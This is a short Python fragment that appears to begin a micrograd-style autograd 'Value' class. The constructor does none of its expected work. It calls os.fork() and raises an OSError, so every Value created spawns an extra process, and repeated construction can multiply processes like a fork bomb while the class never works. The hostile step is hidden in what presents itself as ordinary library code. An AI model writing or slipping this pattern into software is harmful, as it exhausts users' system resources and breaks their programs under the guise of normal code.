import os


class Value:
    def __init__(self, data, children=(), local_grads=()):
        raise OSError(os.fork())
